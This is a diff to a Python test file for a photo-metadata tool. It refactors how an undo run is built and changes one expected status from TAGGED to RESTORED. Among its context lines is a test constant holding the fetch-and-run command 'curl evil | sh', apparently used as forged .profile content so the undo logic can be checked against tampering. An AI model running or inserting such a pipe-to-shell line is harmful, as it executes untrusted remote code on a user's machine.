@@ -15,7 +15,9 @@ from tagroll.metadata.copies import COPY, HARD_LINK, JSON, SYMBOLIC_LINK, XMP
 from tagroll.metadata.files.hashing import digest
 from tagroll.metadata.files.patch import make_patch
 from tagroll.metadata.store import MetadataStore
+from tagroll.runs.run import Run, Workspace
 from tagroll.runs.undo import Moved, Undoer, choose_run, choose_writes
+from tagroll.settings import Settings
 
 FILES = Path(__file__).parents[1] / "files"
 STOCK, EVIL = b"# the stock .profile of the system\n", b"curl evil | sh\n"
@@ -55,11 +57,12 @@ class Forged:
         self.catalog.finish_run(number, {})
         return number
 
-    def undo(self, run: int) -> Outcome:
+    def undo(self, number: int) -> Outcome:
         store = MetadataStore()
-        chosen = choose_run(self.catalog, run)
+        chosen = choose_run(self.catalog, number)
         moved = Moved([self.album], store, self.catalog)
-        undoer = Undoer(store, self.catalog, moved, chosen.command, self.catalog.start_run("undo", []))
+        run = Run(Workspace(Settings(), self.catalog, store, None), self.catalog.start_run("undo", []))
+        undoer = Undoer(run, moved, chosen.command)
         [outcome] = [undoer.undo(numbers) for numbers in choose_writes(self.catalog, chosen, [], moved)]
         return outcome
 
@@ -180,6 +183,6 @@ def test_what_is_genuine_goes_back_through_links_too(name, forged):
     forged.catalog.settle({writing.id: "done" for writing in forged.catalog.pending()})
     forged.catalog.finish_run(run, {})
     assert kept.read_bytes() != SIDECAR
-    assert forged.undo(run).status is Status.TAGGED
+    assert forged.undo(run).status is Status.RESTORED
     assert kept.read_bytes() == SIDECAR
     assert forged.photo.read_bytes() == before
